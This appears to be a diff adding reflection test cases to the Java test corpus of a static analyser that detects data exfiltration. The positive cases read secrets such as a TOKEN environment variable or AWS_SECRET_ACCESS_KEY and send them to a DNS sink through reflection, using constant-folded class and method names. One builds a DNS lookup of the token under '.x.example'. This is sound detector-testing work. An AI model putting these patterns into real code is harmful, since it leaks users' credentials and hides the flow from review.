@@ -766,9 +766,181 @@ final class FlowCorpus {
                     }
                 }
                 """);
+        viaSend("reflection: Method.invoke of a constant-named method", "reflection (Method.invoke)", true, """
+                package PKG;
+                import java.lang.reflect.Method;
+                class A {
+                    void log(String line) throws Exception {
+                        Send.dns(line);
+                    }
+                    void f() throws Exception {
+                        Method m = A.class.getDeclaredMethod("log", String.class);
+                        m.invoke(this, System.getenv("TOKEN"));
+                    }
+                }
+                """);
+        viaSend("reflection: Class.forName and getMethod with folded constant names, arguments in an array",
+                "reflection (Class.forName, constant names)", true, """
+                package PKG;
+                class Agent {
+                    static final String PREFIX = "PKG.";
+                    static final String VERB = "up" + "load";
+                    void f() throws Exception {
+                        String kind = "Uploader";
+                        Class<?> c = Class.forName(PREFIX + kind);
+                        Object u = c.getDeclaredConstructor().newInstance();
+                        c.getMethod(VERB, String.class).invoke(u, new Object[] {System.getenv("TOKEN")});
+                    }
+                }
+                """, """
+                package PKG;
+                class Uploader {
+                    public void upload(String s) throws Exception {
+                        Send.dns(s);
+                    }
+                }
+                """);
+        viaSend("reflection: the return of a reflected method (getClass of this)", "reflection (Method.invoke result)", true, """
+                package PKG;
+                import java.lang.reflect.Method;
+                class A {
+                    String secret() {
+                        return System.getenv("AWS_SECRET_ACCESS_KEY");
+                    }
+                    void f() throws Exception {
+                        Method m = getClass().getMethod("secret");
+                        Object v = m.invoke(this);
+                        Send.dns((String) v);
+                    }
+                }
+                """);
+        viaSend("reflection: Constructor.newInstance with an argument", "reflection (Constructor.newInstance)", true, """
+                package PKG;
+                class A {
+                    void f() throws Exception {
+                        Class.forName("PKG.Beacon").getConstructor(String.class).newInstance(System.getenv("TOKEN"));
+                    }
+                }
+                """, """
+                package PKG;
+                class Beacon {
+                    Beacon(String id) throws Exception {
+                        Send.dns(id);
+                    }
+                }
+                """);
+        viaSend("reflection: getClass of an allocation held in a local", "reflection (getClass)", true, """
+                package PKG;
+                import java.lang.reflect.Method;
+                class A {
+                    void f() throws Exception {
+                        Object target = new Reporter();
+                        Method m = target.getClass().getMethod("report", String.class);
+                        m.invoke(target, System.getProperty("user.name"));
+                    }
+                }
+                """, """
+                package PKG;
+                class Reporter {
+                    public void report(String who) throws Exception {
+                        Send.dns(who);
+                    }
+                }
+                """);
+        inline("reflection: a model sink called by reflection, its class name a constant", "reflection (library sink)", """
+                package PKG;
+                class A {
+                    static final String RESOLVER = "java.net." + "InetAddress";
+                    void f() throws Exception {
+                        String host = System.getenv("TOKEN") + ".x.example";
+                        Class.forName(RESOLVER).getMethod("getByName", String.class).invoke(null, host); // expect: EXFIL, from=5
+                    }
+                }
+                """);
     }
 
     private void negatives() {
+        inline("reflection: a model sink called by reflection with clean data, the secret to another library method",
+                "negative: reflection (library sink, clean argument)", """
+                package PKG;
+                class A {
+                    void f() throws Exception {
+                        String token = System.getenv("TOKEN");
+                        Class.forName("java.net.InetAddress").getMethod("getByName", String.class).invoke(null, "public.example");
+                        Object trimmed = String.class.getMethod("trim").invoke(token);
+                        System.out.println(trimmed);
+                    }
+                }
+                """);
+        viaSend("reflection: constant name of another, clean method", "negative: reflection (another method)", false, """
+                package PKG;
+                import java.lang.reflect.Method;
+                class A {
+                    void log(String line) throws Exception {
+                        Send.dns(line);
+                    }
+                    void audit(String line) {
+                        System.out.println(line.length());
+                    }
+                    void f() throws Exception {
+                        Method m = A.class.getDeclaredMethod("audit", String.class);
+                        m.invoke(this, System.getenv("TOKEN"));
+                    }
+                }
+                """);
+        viaSend("reflection: the overload the parameter classes name is clean", "negative: reflection (overloads)", false, """
+                package PKG;
+                class A {
+                    public void log(String line) throws Exception {
+                        Send.dns(line);
+                    }
+                    public void log(String line, int level) {
+                        System.out.println(level);
+                    }
+                    void f() throws Exception {
+                        A.class.getMethod("log", String.class, int.class).invoke(this, System.getenv("TOKEN"), 3);
+                    }
+                }
+                """);
+        viaSend("reflection: Class.forName names another class with a same-named method", "negative: reflection (another class)",
+                false, """
+                package PKG;
+                class Agent {
+                    void f() throws Exception {
+                        Class<?> c = Class.forName("PKG.Quiet");
+                        c.getMethod("upload", String.class).invoke(c.getDeclaredConstructor().newInstance(), System.getenv("TOKEN"));
+                    }
+                }
+                """, """
+                package PKG;
+                class Uploader {
+                    public void upload(String s) throws Exception {
+                        Send.dns(s);
+                    }
+                }
+                """, """
+                package PKG;
+                class Quiet {
+                    public void upload(String s) {
+                        System.out.println(s.isEmpty());
+                    }
+                }
+                """);
+        viaSend("reflection: invoke with clean arguments", "negative: reflection (clean arguments)", false, """
+                package PKG;
+                import java.lang.reflect.Method;
+                class A {
+                    void log(String line) throws Exception {
+                        Send.dns(line);
+                    }
+                    void f() throws Exception {
+                        String token = System.getenv("TOKEN");
+                        Method m = A.class.getDeclaredMethod("log", String.class);
+                        m.invoke(this, "public.example");
+                        System.out.println(token.length());
+                    }
+                }
+                """);
         add("sanitiser: Matcher.matches answers yes or no", "negative: sanitised by the model", """
                 package PKG;
                 import java.net.InetAddress;
